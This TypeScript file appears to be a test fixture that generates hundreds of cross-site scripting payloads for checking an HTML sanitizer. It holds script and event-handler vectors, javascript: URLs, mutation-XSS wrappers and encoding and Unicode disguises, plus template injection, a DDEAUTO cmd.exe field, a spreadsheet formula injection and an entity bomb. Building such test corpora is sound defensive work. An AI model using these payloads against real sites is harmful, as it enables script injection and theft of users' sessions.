import { vectors } from './vectors.ts';

/**
 * T20: the hand-written vectors, and what a grammar of our own makes: everything that runs, in everything that changes how it is parsed, in
 * every disguise. `pwned` is set by whatever runs. The list is the same each time.
 */
const run = 'pwned=1';

const runners: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`, 'script type': `<script type=module>${run}</script>`, 'picture error': `<img src=x onerror=${run}>`, 'svg load': `<svg onload=${run}>`, 'svg script': `<svg><script href="data:text/javascript,${run}"></script></svg>`,
  'link script': `<a href="javascript:${run}">x</a>`, 'link data': `<a href="data:text/html,<script>opener.${run}</script>" target=_blank>x</a>`, 'math link': `<math href="javascript:${run}"><mi>x</mi></math>`, 'svg link': `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  'svg set': `<svg><a id=a><set attributeName=href to="javascript:${run}"/></a></svg>`, 'svg use': `<svg><use href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='1' onerror='${run}'/%3E%3C/svg%3E#x"/></svg>`,
  'frame address': `<iframe src="javascript:parent.${run}"></iframe>`, 'frame document': `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`, 'frame data': `<iframe src="data:text/html,<script>parent.${run}</script>"></iframe>`,
  object: `<object data="javascript:${run}"></object>`, embed: `<embed src="javascript:${run}">`, refresh: `<meta http-equiv=refresh content="0;url=javascript:${run}">`, base: `<base href="javascript:${run}//"><a href=x>x</a>`,
  form: `<form action="javascript:${run}"><button>x</button><input type=image src=x onerror=${run}></form>`, focus: `<input autofocus onfocus=${run}>`, toggle: `<details open ontoggle=${run}>x</details>`, 'style import': `<style>@import "javascript:${run}";*{background:url("javascript:${run}")}</style>`,
  'style attribute': `<p style="background:url(javascript:${run});position:fixed;inset:0;z-index:9">x</p>`, sheet: `<link rel=stylesheet href="data:text/css,*{background:red}" onload=${run}>`, animation: `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=${run}>x</p>`,
  video: `<video><source onerror=${run}></video>`, audio: `<audio src=x onerror=${run}></audio>`, marquee: `<marquee onstart=${run}>x</marquee>`, body: `<body onload=${run} onpageshow=${run}>`, names: `<form name=body><input name=innerHTML><img name=getElementById src=x onerror=${run}></form>`,
};

/** What it stands in: the parser reads some of these otherwise the second time. `@` is the place. */
const wrappers: Readonly<Record<string, string>> = {
  'svg title': '<svg><title>@</title></svg>', 'svg foreign': '<svg><foreignObject>@</foreignObject></svg>', 'svg desc, math': '<svg><desc><math><mtext>@</mtext></math></desc></svg>', 'math text': '<math><mtext><table><mglyph><style><!--</style>@', annotation: '<math><annotation-xml encoding="text/html">@</annotation-xml></math>',
  'svg style': '<svg></p><style><a title="</style>@">', noscript: '<noscript><p title="</noscript>@">', textarea: '<textarea></textarea>@</textarea>', xmp: '<xmp><p title="</xmp>@">', comment: '<!--><!-- -->@<!-- --!>', table: '<table><tr>@<td><table>@', select: '<select><option>@</select>@',
  template: '<template>@</template><template shadowrootmode=open>@</template>', forms: '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>@">', attribute: '<p title=\'"><x>\' data-x="`>@">', cdata: '<svg><![CDATA[><x y="]]>@"></svg>',
};

const disguises: Readonly<Record<string, (text: string) => string>> = {
  'letters of both sizes': (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)).replace(/PWNED|pWnEd|PwNeD/g, 'pwned'),
  'a slash for a blank': (text) => text.replace(/<(\w+) /g, '<$1/'), 'tabs in the scheme': (text) => text.replaceAll('javascript:', 'java\tscr\nipt:'), entities: (text) => text.replaceAll('javascript:', '&#x6A;avascript&colon;'),
  'null characters': (text) => text.replace(/<(\w)/g, '<\0$1').replace(/on(\w)/g, 'on\0$1'), 'zero width': (text) => text.replaceAll('script', 'scr\u200Bipt').replaceAll('>x<', '>\uFEFFx\u2060<'), 'right to left': (text) => `\u202E${text}\u202C\u2067x`,
  'lone surrogates': (text) => `\uD800${text}\uDFFF`, 'full width': (text) => text.replaceAll('<', '＜') + text, 'not closed': (text) => text.replace(/>$/, ' '), 'twice decoded': (text) => text.replaceAll('<', '&lt;') + text.replaceAll('<', '&amp;lt;'),
};

const whole: Readonly<Record<string, string>> = {
  'a megabyte of attribute': `<p title="${'"<img src=x onerror=pwned=1>'.repeat(40_000)}">x</p>`, 'deeper than parsers go': `${'<svg><desc>'.repeat(700)}<img src=x onerror=${run}>`, 'picture that is a script': `GIF89a/*<svg/onload=${run}>*/=1;${run}`,
  'javascript in every context': `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`, 'control characters': Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('') + '\u007F\u0085\uFFFE\uFFFF', 'order of text turned': 'gov.cn\u202Enc.live\u202C \u2066a\u2069\u200F\u061C',
  'closes our page': `</div></main></body></html><script>${run}</script>`, 'template of a server': `\${${run}}{{${run}}}<%=${run}%>#{${run}}`, 'word processor field': `]]><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>`, 'formula': `=HYPERLINK("javascript:${run}")`, 'entity bomb': '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>&b;',
};

export const payloads: Readonly<Record<string, string>> = {
  ...vectors, ...whole, ...runners,
  ...Object.fromEntries(Object.entries(runners).flatMap(([runner, text], index) => Object.entries(wrappers).filter((_, at) => (index + at) % 2 === 0).map(([wrapper, around]) => [`${runner} in ${wrapper}`, around.replaceAll('@', text)]))),
  ...Object.fromEntries(Object.entries(runners).flatMap(([runner, text], index) => Object.entries(disguises).filter((_, at) => (index + at) % 3 === 0).map(([disguise, hide]) => [`${runner}: ${disguise}`, hide(text)]))),
};
